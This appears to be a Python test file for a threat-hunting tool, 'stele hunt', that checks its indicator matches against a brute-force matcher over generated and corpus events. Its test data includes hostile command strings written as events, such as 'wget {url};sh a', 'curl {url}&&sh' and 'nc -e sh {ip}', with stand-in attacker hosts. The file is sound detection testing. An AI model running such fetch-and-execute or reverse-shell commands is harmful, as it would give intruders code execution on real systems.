"""stele hunt finds every event that an obvious matcher, written apart, finds, and no other: over generated
events and over the corpus, by what is kept in the archive and without it.

STELE_RECALL_EVENTS says how many events are generated (20,000)."""
import base64
import collections
import glob
import ipaddress
import json
import os
import random
import re
import subprocess
import sys

import corpus
from stele_tool import BIN, DAY_FILES, expect, keep_sums, main

EVENTS = int(os.environ.get("STELE_RECALL_EVENTS", "20000"))

USER_FIELDS = set("""user login user_name username name impersonator delegator reviewer updated_by participants
 invited db_user kubernetes_users windows_user aws_assumed_role identity.user identity.impersonator identity.logins
 identity.kubernetes_users identity.bot_name members.member_name removed_members attributes.sub
 attributes.actor""".split())
SESSION_FIELDS = {"sid", "session_id"}
AGENT_FIELD = re.compile(r"(?i)(^|\.)user[-_]agent$")
FILE_FIELDS = set("""program path target_path file_path filename directory_name working_directory location
 file_transfer_stats.path""".split())
WHOLE_FILES = FILE_FIELDS | {"command", "initial_command"}
COMMAND_FIELDS = WHOLE_FILES | {"argv"}
OF_WINDOWS = re.compile(r"(?i)\\|\.(exe|dll|bat|cmd|ps1|vbs|scr|msi|lnk|sys|hta|cpl|wsf)$")
TIME = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[0-9.:+Z-]*$")
ADDRESS = re.compile(r"[0-9A-Fa-f:.]*[0-9A-Fa-f:][.:][0-9A-Fa-f:.]*[0-9A-Fa-f:]")
WORD_ENDS = r"\s\"'<>|`;&(),=*?"
URL = re.compile(r"[A-Za-z0-9+]+://[^\s\"'<>|`^{}\\]+")
URL_START = re.compile(r"[A-Za-z0-9+]+://")
ESCAPE = re.compile(rb"%([0-9A-Fa-f]{2})|\\/")


def texts(event, path=""):
    """Every text with its field's path, elements of a list under the path of the list."""
    if isinstance(event, dict):
        for key, value in event.items():
            yield from texts(value, f"{path}.{key}" if path else key)
    elif isinstance(event, list):
        for value in event:
            yield from texts(value, path)
    elif isinstance(event, str) and event:
        yield path, event


def unescaped(text):
    """Without percent encoding and escaped slashes."""
    plain = ESCAPE.sub(lambda m: bytes([int(m[1], 16)]) if m[1] else b"/", text.encode("utf-8", "surrogateescape"))
    return plain.decode("utf-8", "surrogateescape")


def with_decoded(text, depth=0):
    yield text
    if depth < 2 and unescaped(text) != text:
        yield from with_decoded(unescaped(text), depth + 1)
    for run in re.findall(r"[A-Za-z0-9+/_-]{12,}", text) if depth < 2 else []:
        digits = run.replace("-", "+").replace("_", "/")
        digits = digits[:-1] if len(digits) % 4 == 1 else digits
        plain = base64.b64decode(digits + "=" * (-len(digits) % 4)).replace(b"\0", b"")
        if all(byte in b"\t\n\r" or 32 <= byte < 127 for byte in plain):
            yield from with_decoded(plain.decode(), depth + 1)


def addresses(text):
    """IPv4 and IPv6 that stand for themselves; a port, brackets or a zone may be there too."""
    for token in re.findall(r"[\w.:\-@\[\]%]+", text):
        whole = token.lstrip(".-").rstrip(".-:@")
        pieces = [whole, whole.strip("[]"), re.sub(r":\d{1,5}$", "", whole), re.sub(r"\]:\d+$", "", whole).strip("[")]
        for name in token.split(":"):
            pieces += [name.strip("[].-"), name.strip("[].-").rpartition("@")[2] if "@" in name else ""]
        for piece in pieces:
            try:
                address = ipaddress.ip_address(piece.split("%")[0])
            except ValueError:
                continue
            yield getattr(address, "ipv4_mapped", None) or address


def is_domain(text, domain):
    name = re.escape(domain)
    for match in re.finditer(rf"(?i)(?<![\w.-])(?:[\w-]+\.)*{name}\.?(?![\w-]|\.\w)", text):
        before = text[:match.start()]
        if not re.search(r"[/\\]$", before) or re.search(r"://$", before):
            return True
    return False


def is_address(text):
    try:
        return bool(ipaddress.ip_address(re.sub(r"^([\d.]+):\d+$", r"\1", text)))
    except ValueError:
        return False


def as_file(text):
    return text.lower() if OF_WINDOWS.search(text) else text


def is_file(path, text, wanted, whole):
    if is_address(text):
        return path in WHOLE_FILES and text == wanted
    words = [word.rstrip(".:") for word in re.split(f"[{WORD_ENDS}]+", text)
             if path in COMMAND_FIELDS and not word.startswith("-") or re.search(r"[./\\]", word)]
    words += [text] if path in WHOLE_FILES and whole else []
    words += [as_file(word) for word in words]
    return any(as_file(wanted) in (word, re.split(r"[/\\]", word)[-1]) for word in words)


def urls(text):
    """Each run of a URL's characters, those within it, and what stands before ; , && in them."""
    end = 0
    for start in URL_START.finditer(text):
        run = URL.match(text, start.start())
        if run is None:
            continue
        inner = start.start() < end
        end = max(end, run.end())
        cuts = [";", ",", "&&"] + ["&"] * inner
        yield from {run[0]} | {run[0].split(cut)[0] for cut in cuts}


def is_url(text, wanted):
    for found in urls(text):
        found = found.rstrip(".,;:!?)]").split("#")[0]
        scheme, _, rest = found.partition("://")
        host, slash, tail = rest.partition("/")
        tail = slash + tail if tail else ""
        if f"{scheme.lower()}://{host.rpartition('@')[2].lower()}{tail}" == wanted:
            return True
    return False


def is_hash(text, wanted):
    """Where no letter or digit goes on, but for 0x in front."""
    for match in re.finditer(rf"(?i){wanted}(?![^\W_])(?![\w.%+-]*@)", text):
        before = text[:match.start()]
        if not re.search(r"[^\W_]$", before) or re.search(r"0[xX]$", before):
            return True
    return False


def is_agent(text, wanted):
    part = wanted.strip("*")
    if wanted.startswith("*"):
        return part in text if wanted.endswith("*") else text.endswith(part)
    return text == wanted


def is_email(text, wanted):
    return re.search(rf"(?i)(?<![\w.%@-]){re.escape(wanted)}(?![\w-]|\.\w)", text) is not None


class Text:
    """A text of an event, with what is hidden in it."""

    def __init__(self, path, text):
        self.path = path
        self.text = text
        self.is_time = TIME.match(text) is not None
        self.plain = [] if self.is_time else list(with_decoded(text))
        self.lower = [plain.lower() for plain in self.plain]
        self.addresses = {address for plain in self.plain for address in addresses(plain)}


def obviously(kind, value, at):
    """Is the indicator in this text of an event?"""
    if kind == "user":
        return at.path in USER_FIELDS and at.text == value
    if kind == "session":
        return at.path in SESSION_FIELDS and at.text.lower() == value
    if kind == "agent":
        return AGENT_FIELD.search(at.path) is not None and is_agent(at.text, value)
    if kind == "ip":
        return any(address in value for address in at.addresses)
    for plain, lower in zip(at.plain, at.lower):
        if value.lower() not in lower:
            continue
        if kind == "domain" and is_domain(plain, value):
            return True
        if kind == "email" and is_email(plain, value):
            return True
        if kind == "hash" and is_hash(plain, value):
            return True
        if kind == "url" and is_url(plain, value):
            return True
        if kind == "file" and is_file(at.path, plain, value, plain is at.text):
            return True
    return False


def pick(events, draw, wanted):
    """Indicators that occur, and near misses of them: kind, as the list has it, as it is compared."""
    found = collections.defaultdict(set)
    for event in events:
        for path, text in texts(event):
            if path in USER_FIELDS:
                found["user"].add(text)
            if path in SESSION_FIELDS:
                found["session"].add(text.lower())
            if AGENT_FIELD.search(path) and "#" not in text and "*" not in text:
                found["agent"] |= {text, f"*{text[1:-1]}*"} if len(text) > 4 else {text}
            if path in COMMAND_FIELDS:
                found["file"] |= set(re.findall(r"(?:/[\w.-]+)+\w", text)) | set(re.findall(r"\b\w+\.\w+\b", text))
            found["email"] |= {m.lower() for m in re.findall(r"\b[a-z.]+@[a-z.]+\.[a-z]+\b", text)}
            found["hash"] |= {m for m in re.findall(r"\b[0-9a-f]{32,64}\b", text) if len(m) in (32, 40, 64)}
            found["url"] |= {m for m in URL.findall(text) if re.fullmatch(r"https?://[a-z.]+\.[a-z]+/[\w/=?.]+\w", m)}
            found["domain"] |= {m for m in re.findall(r"(?<![@/\w.-])[a-z][a-z-]*\.[a-z.-]+\.(?:com|net|org|io)\b", text)}
            found["ip"] |= {str(address) for address in addresses(text)}
    result = []
    for kind in sorted(found):
        values = sorted(found[kind])
        for value in draw.sample(values, min(wanted, len(values))):
            result.append((kind, value))
            near = value[1:] if draw.random() < 0.5 else value[:-1]
            if kind in ("user", "file") and len(near) > 2:
                result.append((kind, near))
            if kind == "ip" and ":" not in value:
                result.append(("ip", value[:-1]) if value.count(".") == 3 and value[-2] != "." else ("ip", value))
                result.append(("ip", str(ipaddress.ip_network(f"{value}/{draw.choice((20, 24, 28))}", strict=False))))
            if kind == "domain" and value.count(".") > 2:
                result.append(("domain", value.partition(".")[2]))
    return sorted(set(result))


def as_line(kind, value):
    return value if kind in ("ip", "url", "email", "hash", "domain") else f"{kind}:{value}"


def as_compared(kind, value):
    return ipaddress.ip_network(value) if kind == "ip" else value


def brute_force(lines, indicators, out):
    """The pairs that the obvious matcher finds."""
    compared = [(line, kind, as_compared(kind, value)) for line, kind, value in indicators]
    known = {}  # the same text of the same field is matched once
    for raw in lines:
        event = json.loads(raw)
        for key in set(texts(event)):
            if key[0] in ("uid", "time"):
                continue
            hits = known.get(key)
            if hits is None:
                at = Text(*key)
                hits = [line for line, kind, value in compared if obviously(kind, value, at)]
                if len(known) < 2_000_000:
                    known[key] = hits
            for line in hits:
                out.add((line, event["uid"]))


def hunt(place, lines, archive="a"):
    result = place.stele("hunt", "--archive", archive, "--events", "-", stdin="\n".join(lines).encode(), timeout=3000)
    expect(result.code == 0, result.text()[:2000])
    expect(not re.search(rb"standard input:\d", result.err), result.err.decode()[:2000])
    return {(hit["indicator"], hit["uid"]) for hit in map(json.loads, result.out.splitlines())}


# Fields of events that hide a value, and of some that only look so.
DISGUISES = (
    {"command": "curl http://x.example/?u=https://{domain}/p&v=1"}, {"command": "curl 'http://x.example/?u=https%3A%2F%2F{domain}%2F'"},
    {"raw_query": "next=http%253A%252F%252F{ip}%252Flogin"}, {"raw_query": "u=bob%40{domain}&v={url}"},
    {"db_query": "SELECT 1 FROM t WHERE u LIKE '%{domain}%'"}, {"data": '{{"u":"http:\\/\\/{domain}\\/x"}}'}, {"path": "/tmp/{hash}.bin"},
    {"command": "cp a a_{hash}"}, {"command": "x 0x{hash}"}, {"command": "x 0x{hash}0"}, {"command": "x y{hash}.bin"},
    {"command": "wget {url};sh a"}, {"command": "curl {url}&&sh"}, {"command": "x {url},http://b.example/c"}, {"command": "x {url}x;y"},
    {"command": "http://x.example/?a={url}&b=1"}, {"headers": {"User-Agent": ["{agent}"]}}, {"user_agent": "Mozilla {agent} x"},
    {"headers": {"X-Agent": ["{agent}"]}}, {"path": "C:\\x\\{file}"}, {"command": "C:\\x\\{file} -a"}, {"command": "run {domain}.not"},
    {"command": "not{domain}"}, {"command": "nc -e sh {ip}"}, {"program": "/opt/{file}"}, {"data": "%7B%22h%22:%22{hash}%22%7D"},
)


def disguised(draw, time, count):
    """Events that hide values, and the values as indicators: kind, value."""
    raws, values = [], set()
    for number in range(count):
        n = draw.randrange(8)
        known = {"domain": f"c{n}.evil.example", "ip": f"203.0.113.{n}", "hash": f"{n + 11:032x}", "url": f"http://e{n}.example/a{n}",
                 "agent": f"EvilAgent/{n}", "file": f"Evil{n}.EXE"}

        def fill(item):
            if isinstance(item, dict):
                return {key: fill(value) for key, value in item.items()}
            return [fill(value) for value in item] if isinstance(item, list) else item.format(**known)

        event = {"event": "exec", "uid": f"disguised-{number}", "time": time, **fill(draw.choice(DISGUISES))}
        raws.append(json.dumps(event).encode())
        values |= set(known.items()) | {("agent", f"*{known['agent'][2:]}*")}
    values.add(("file", "nc -e sh 203.0.113.1"))
    return raws, sorted(values)


def compare(place, raws, draw, wanted, planted=()):
    place.stele("init", "a")
    with open(place.path("a/stele.conf"), "a", encoding="utf-8") as conf:
        conf.write(DAY_FILES)
    lines = b"".join(raw + b"\n" for raw in raws)
    imported = place.stele("import", "--archive", "a", "-", stdin=lines, timeout=3000)
    expect(imported.code == 0, imported.text())
    sample = draw.sample(raws, min(len(raws), 3000))
    picked = sorted(set(pick(map(json.loads, sample), draw, wanted)) | set(planted))
    indicators = [(as_line(*i), *i) for i in picked]
    brute = set()
    brute_force(raws, indicators, brute)
    found = hunt(place, [line for line, _, _ in indicators])
    missed, wrong = sorted(brute - found), sorted(found - brute)
    expect(not missed and not wrong,
           f"{len(missed)} missed, {len(wrong)} wrong of {len(brute)}: {missed[:8]} {wrong[:8]}")
    print(f"{len(raws)} events, {len(indicators)} indicators, {len(brute)} pairs the same")
    return [line for line, _, _ in indicators], found


def generated(place):
    made = subprocess.run([os.path.join(BIN, "stele-generate"), "--events", str(EVENTS), "--seed", "11", "--days", "2"],
                          capture_output=True, check=True).stdout
    raws = made.splitlines()
    hidden, planted = disguised(random.Random(7), json.loads(raws[0])["time"], 2000)
    lines, found = compare(place, raws + hidden, random.Random(3), 15, planted)
    expect(sum(uid.startswith("disguised") for _, uid in found) > 1500, "the disguises are found")
    # What is kept is an index: without all of it, or with a part of it, the same is found.
    files = sorted(glob.glob(place.path("a/segments/*/*.db")))
    expect(len(files) == 2, files)
    for path, change in ((files[0], "DELETE FROM observables WHERE block < 2"),
                         (files[1], "UPDATE observables SET data = substr(data, 1, length(data) - 9)"),
                         (files[0], "DELETE FROM observables")):
        changed = subprocess.run(["sqlite3", path, f"{change}; SELECT changes()"], capture_output=True, check=True)
        expect(int(changed.stdout) > 0, change)
        keep_sums(path)
        if EVENTS <= 100000:
            expect(hunt(place, lines) == found, f"after {change}, something else is found")


def corpus_events(place):
    raws = []
    for number, line in enumerate(corpus.lines()):
        event = json.loads(line)
        if not isinstance(event.get("event"), str) or not event["event"]:
            continue  # no event to an import
        event["uid"] = f"corpus-{number}"
        raws.append(json.dumps(event).encode())
    compare(place, raws, random.Random(5), 1000)


main(*([generated, corpus_events] if len(sys.argv) < 2 else [globals()[name] for name in sys.argv[1:]]))
